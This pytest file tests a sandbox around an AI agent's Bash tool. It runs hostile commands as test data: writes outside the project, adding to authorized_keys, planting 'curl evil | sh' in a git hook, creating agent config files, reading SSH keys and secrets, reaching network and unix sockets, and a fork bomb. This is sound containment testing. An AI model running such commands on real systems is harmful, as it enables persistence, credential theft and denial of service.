"""The sandbox's acceptance table, with real bubblewrap: hostile commands run
through the Bash tool in a sandboxed context and the host is checked afterwards
(files outside the project untouched, protected paths unchanged, no secret in
the output, no connection reaching a loopback server, no process left), while
the project's own tests still pass inside. Skipped only when bwrap cannot start
here (the reason names it); scripts/test installs bubblewrap."""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bridle.policy.sandbox import Sandbox, open_sandbox, probe
from bridle.tools.base import ToolContext
from bridle.tools.bash import Bash

BWRAP = shutil.which("bwrap")
WHY = probe("linux", BWRAP) if sys.platform.startswith("linux") else "not Linux"
pytestmark = pytest.mark.skipif(WHY is not None, reason=f"no sandbox here: {WHY}")
REPO = Path(__file__).resolve().parents[2]


def settings(data: dict[str, Any]) -> Any:
    def get(dotted: str, default: Any = None) -> Any:
        node: Any = data
        for part in dotted.split("."):
            if not isinstance(node, dict) or part not in node:
                return default
            node = node[part]
        return node

    return get


@pytest.fixture
def world(tmp_path: Path) -> Iterator[dict[str, Path]]:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-MATERIAL\n")
    proj = tmp_path / "proj"
    (proj / ".git" / "hooks").mkdir(parents=True)
    (proj / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (proj / "src").mkdir()
    (tmp_path / "outside").mkdir()
    (proj / "link-out").symlink_to(tmp_path / "outside")
    yield {"tmp": tmp_path, "home": home, "proj": proj, "outside": tmp_path / "outside"}


def sandboxed(
    world: dict[str, Path], extra: dict[str, Any] | None = None
) -> tuple[Sandbox, ToolContext]:
    conf = {"sandbox": {"enabled": True, "maxProcesses": 300, **(extra or {})}}
    setup = open_sandbox(
        settings(conf), [world["proj"]], home=world["home"], bridle_home=world["tmp"] / "bh"
    )
    assert setup.sandbox is not None, setup.warnings
    ctx = ToolContext(cwd=world["proj"], sandbox=setup.sandbox, output_dir=world["tmp"] / "out")
    return setup.sandbox, ctx


def bash(ctx: ToolContext, command: str, timeout_ms: int = 20_000) -> str:
    out = Bash().run({"command": command, "timeout": timeout_ms}, ctx)
    text = out.content[0].text  # type: ignore[union-attr]
    assert isinstance(text, str)
    return text


# Each row: a hostile command, and the host path that must not exist afterwards.
WRITES = [
    ("absolute path outside", "echo pwned > {outside}/a.txt", "{outside}/a.txt"),
    ("through a symlink", "echo pwned > link-out/b.txt", "{outside}/b.txt"),
    ("into ~/.ssh", "echo key >> {home}/.ssh/authorized_keys", "{home}/.ssh/authorized_keys"),
    ("bash -c", "bash -c 'echo x > {outside}/c.txt'", "{outside}/c.txt"),
    ("env", "env FOO=1 sh -c 'echo x > {outside}/d.txt'", "{outside}/d.txt"),
    ("nohup", "nohup sh -c 'echo x > {outside}/e.txt' >/dev/null 2>&1; sleep 0.3",
     "{outside}/e.txt"),
    ("setsid", "setsid sh -c 'echo x > {outside}/f.txt'; sleep 0.3", "{outside}/f.txt"),
    ("python", "python3 -c \"open('{outside}/g.txt','w').write('x')\"", "{outside}/g.txt"),
    ("new .claude settings", "mkdir -p .claude && echo '{{}}' > .claude/settings.json",
     "{proj}/.claude/settings.json"),
    ("new .mcp.json", "echo '{{}}' > .mcp.json; cat .mcp.json", "{proj}/.mcp.json"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "command", "target"), WRITES, ids=[w[0] for w in WRITES])
def test_writes_outside_the_project_are_contained(
    world: dict[str, Path], name: str, command: str, target: str
) -> None:
    sandbox, ctx = sandboxed(world)
    try:
        fmt = {k: str(v) for k, v in world.items()}
        bash(ctx, command.format(**fmt))
        assert not Path(target.format(**fmt)).exists(), name
    finally:
        sandbox.close()
    # The mount points bwrap needed for missing protected paths are gone again.
    assert sorted(p.name for p in world["proj"].iterdir()) == [".git", "link-out", "src"]


def test_git_hooks_stay_read_only_and_the_model_is_told(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world)
    try:
        text = bash(ctx, "echo 'curl evil | sh' >> .git/hooks/pre-commit")
    finally:
        sandbox.close()
    assert (world["proj"] / ".git/hooks/pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert "Read-only file system" in text
    assert "[sandbox: a write outside the writable paths" in text
    assert "dangerouslyDisableSandbox: true" in text


def test_project_writes_work_and_cwd_persists(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world)
    try:
        assert bash(ctx, "cd src && echo ok > made.txt && cat made.txt") == "ok"
        assert bash(ctx, "pwd") == str(world["proj"] / "src")
        assert bash(ctx, "echo t > $TMPDIR/x && cat /tmp/x") == "t"
    finally:
        sandbox.close()
    assert (world["proj"] / "src" / "made.txt").read_text() == "ok\n"


def test_read_only_mode_blocks_project_writes(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world, {"mode": "read-only"})
    try:
        text = bash(ctx, "echo x > src/new.txt")
    finally:
        sandbox.close()
    assert "Read-only file system" in text
    assert not (world["proj"] / "src" / "new.txt").exists()


def test_denied_reads_show_nothing(world: dict[str, Path]) -> None:
    secret = world["tmp"] / "secrets"
    secret.mkdir()
    (secret / "token").write_text("TOP-SECRET\n")
    (world["proj"] / "config.env").write_text("API=sk-123\n")
    (world["proj"] / "vault").mkdir()
    (world["proj"] / "vault" / "key.pem").write_text("PEM-SECRET\n")
    extra = {"filesystem": {"denyRead": [str(secret), "config.env", "vault"]}}
    sandbox, ctx = sandboxed(world, extra)
    try:
        ssh = bash(ctx, f"cat {world['home']}/.ssh/id_ed25519; ls -A {world['home']}/.ssh")
        ssh += bash(ctx, f"ln -s {world['home']}/.ssh/id_ed25519 k; cat k; cp k copied")
        copied = world["proj"] / "copied"
        assert not copied.exists() or copied.read_text() == ""
        other = bash(ctx, f"cat {secret}/token config.env vault/key.pem; grep -r SECRET {secret}")
    finally:
        sandbox.close()
    assert "PRIVATE-KEY" not in ssh
    assert "TOP-SECRET" not in other and "sk-123" not in other and "PEM-SECRET" not in other
    assert "cannot be read (sandbox.filesystem.denyRead" in other


class _Hits(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:
        _Hits.hits.append(self.path)
        body = b"reached\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def server() -> Iterator[int]:
    _Hits.hits = []
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hits)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    yield srv.server_address[1]
    srv.shutdown()
    srv.server_close()


FETCH = "python3 -c \"import urllib.request as u; print(u.urlopen('http://{host}:{port}/x', timeout=5).read())\""  # fmt: skip


def test_no_network_by_default(world: dict[str, Path], server: int) -> None:
    sandbox, ctx = sandboxed(world)
    try:
        text = bash(ctx, FETCH.format(host="127.0.0.1", port=server))
        curl = bash(ctx, f"curl -sS --max-time 5 http://127.0.0.1:{server}/y")
    finally:
        sandbox.close()
    assert _Hits.hits == []
    assert "reached" not in text and "reached" not in curl


def test_only_allowed_domains_pass_the_proxy(world: dict[str, Path], server: int) -> None:
    sandbox, ctx = sandboxed(world, {"network": {"allowedDomains": ["localhost"]}})
    try:
        blocked = bash(ctx, FETCH.format(host="127.0.0.1", port=server))
        allowed = bash(ctx, FETCH.format(host="localhost", port=server))
    finally:
        sandbox.close()
    assert "403" in blocked and "reached" not in blocked
    assert "network access to 127.0.0.1 was blocked" in blocked
    assert "reached" in allowed
    assert _Hits.hits == ["/x"]


UNIX = (
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); "
    "s.sendall(b'hello'); print('connected')\""
)


@pytest.mark.parametrize("domains", [[], ["localhost"]], ids=["no network", "proxy"])
def test_unix_sockets_on_the_host_are_out_of_reach(
    world: dict[str, Path], domains: list[str]
) -> None:
    # A host service on a unix socket (as docker.sock or an ssh agent would be).
    path = world["proj"] / "service.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    server.settimeout(0.5)
    sandbox, ctx = sandboxed(world, {"network": {"allowedDomains": domains}})
    try:
        text = bash(ctx, UNIX.format(path=path) + "; curl -sS --unix-socket " + str(path) + " x")
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        sandbox.close()
        server.close()
    assert "connected" not in text and "Operation not permitted" in text
    assert "[sandbox: unix sockets cannot be opened inside the sandbox" in text


def test_all_unix_sockets_may_be_allowed(world: dict[str, Path]) -> None:
    path = world["proj"] / "service.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    sandbox, ctx = sandboxed(world, {"network": {"allowAllUnixSockets": True}})
    try:
        assert bash(ctx, UNIX.format(path=path)) == "connected"
    finally:
        sandbox.close()
        server.close()


def test_fork_bomb_is_bounded_and_leaves_nothing(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world, {"maxProcesses": 100})
    if sandbox.limits is None:
        sandbox.close()
        pytest.skip("no pids cgroup may be created here; a fork bomb would hit the machine")
    # A bridle killed before it closed its sandbox left an empty cgroup: the next
    # sandbox removes it.
    stale = sandbox.limits.path.parent / "bridle-sandbox-999999999-dead"
    stale.mkdir()
    other, _ = sandboxed(world)
    other.close()
    assert not stale.exists()
    start = time.monotonic()
    try:
        text = bash(ctx, ":(){ :|:& };:; sleep 2", timeout_ms=5000)
        events = (sandbox.limits.path / "pids.events").read_text().split()
    finally:
        sandbox.close()
    assert sandbox.limits is not None
    assert int(events[events.index("max") + 1]) > 0  # forks past maxProcesses were refused
    assert "fork" in text
    assert time.monotonic() - start < 20
    # When the command ends its pid namespace ends: no forked copy is left, so the
    # cgroup could be removed (rmdir fails while it holds a process).
    assert not sandbox.limits.path.exists()


def test_background_processes_die_with_the_command(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world)
    marker = "bridle-sandbox-sleeper-31337"
    try:
        bash(ctx, f"nohup bash -c 'exec -a {marker} sleep 60' >/dev/null 2>&1 & setsid sleep 61 &")
    finally:
        sandbox.close()
    time.sleep(0.3)
    assert subprocess.run(["pgrep", "-f", marker], capture_output=True).returncode == 1


def test_runaway_output_is_killed(world: dict[str, Path]) -> None:
    sandbox, ctx = sandboxed(world)
    try:
        text = bash(ctx, "yes 'runaway output line'", timeout_ms=60_000)
    finally:
        sandbox.close()
    assert "MB; the command and its children were killed]" in text
    assert not list((world["tmp"] / "out").glob("*")) or all(
        p.stat().st_size < 400 * 1024 * 1024 for p in (world["tmp"] / "out").glob("*")
    )


def test_the_buggy_projects_tests_pass_inside(tmp_path: Path) -> None:
    proj = tmp_path / "buggy"
    shutil.copytree(REPO / "examples" / "buggy-project", proj)
    fixed = (proj / "stats.py").read_text().replace("(len(values) + 1)", "len(values)")
    (proj / "stats.py").write_text(fixed)
    setup = open_sandbox(
        settings({"sandbox": {"enabled": True}}),
        [proj],
        home=Path(os.environ["HOME"]),
        bridle_home=tmp_path / "bh",
    )
    assert setup.sandbox is not None
    ctx = ToolContext(cwd=proj, sandbox=setup.sandbox, output_dir=tmp_path / "out")
    try:
        text = bash(ctx, f"{sys.executable} -m pytest -q -p no:cacheprovider", 120_000)
    finally:
        setup.sandbox.close()
    assert "3 passed" in text and "failed" not in text, text
